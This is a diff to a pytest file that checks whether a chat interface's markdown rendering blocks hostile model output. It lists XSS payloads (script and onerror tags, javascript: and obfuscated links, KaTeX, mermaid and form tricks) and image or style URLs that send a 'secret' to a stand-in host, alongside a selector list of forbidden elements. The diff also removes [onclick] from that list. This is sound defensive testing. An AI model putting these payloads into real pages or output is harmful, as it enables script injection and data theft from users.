@@ -1,6 +1,5 @@
 """What a model may write without harm: nothing of it runs, loads or leads where it does not say."""
 
-from collections.abc import Callable
 from typing import TYPE_CHECKING, Any
 
 import pytest
@@ -15,15 +14,17 @@ EVIL = {
     "script": "<script>window.caught = 1</script> <img src=x onerror='window.caught=1'> <svg onload=alert(1)>",
     "frame": "<iframe src='javascript:parent.caught=1'></iframe><object data='data:text/html,x'></object>",
     "picture": "![x](http://203.0.113.9/a.png?q=secret) ![y][1]\n\n[1]: //203.0.113.9/b.png",
-    "link": "[a](javascript:window.caught=1) [b](data:text/html,<script>1</script>) [c](vbscript:x) <javascript:alert(1)>",
+    "link": "[a](javascript:window.caught=1) [b](data:text/html,<script>1</script>) [c](vbscript:x) "
+    "<javascript:alert(1)>",
     "hidden link": "[d](java\tscript:alert(1)) [e](&#106;avascript:alert(1)) [f](//203.0.113.9/x) [g](file:///etc/passwd)",
     "maths": r"$\href{javascript:window.caught=1}{x}$ $\style{background:url(http://203.0.113.9/z)}{y}$ "
     r"$\includegraphics{http://203.0.113.9/i.png}$ $\htmlData{a=b}{z}$ $\color{red;background:url(//203.0.113.9)}{w}$",
     "style": "<style>body{background:url(http://203.0.113.9/s)}</style><link rel=stylesheet href=//203.0.113.9/c>",
     "diagram": '```mermaid\ngraph TD; A-->B; click A \'javascript:window.caught=1\'\n```\n```vega\n{"data":{"url":"http://203.0.113.9/v"}}\n```',
-    "form": "<form action=http://203.0.113.9><input name=q><button>go</button></form><meta http-equiv=refresh content='0;url=//203.0.113.9'>",
+    "form": "<form action=http://203.0.113.9><input name=q><button>go</button></form>"
+    "<meta http-equiv=refresh content='0;url=//203.0.113.9'>",
 }
-NOT_HERE = "script, iframe, object, embed, img, svg[onload], link, style, form, input, meta, [onerror], [onclick], [style*=url]"
+NOT_HERE = "script, iframe, object, embed, img, svg[onload], link, style, form, input, meta, [onerror], [style*=url]"
 
 
 def _shown(guarded: Any, served: Served, text: str) -> "Page":
@@ -132,11 +133,13 @@ def test_sixty_frames_while_two_hundred_tokens_a_second_come(guarded: Any, tmp_p
               const count = () => document.querySelectorAll('.turn-answer .prose p').length;
               const begin = performance.now(), before = count();
               let changed = 0, frames = 0;
-              new MutationObserver((found) => { changed += found.length; }).observe(first, {subtree: true, childList: true, characterData: true});
+              const watcher = new MutationObserver((found) => { changed += found.length; });
+              watcher.observe(first, {subtree: true, childList: true, characterData: true});
               while (performance.now() - begin < 1000) { await new Promise(requestAnimationFrame); frames += 1; }
               return {frames, grown: count() - before, changed};
             }"""
         )
+        page.close()
     assert seen["grown"] > 2
     assert seen["changed"] == 0, "a block that is settled is not drawn again"
     assert seen["frames"] >= 20, "the page goes on drawing while it takes words"
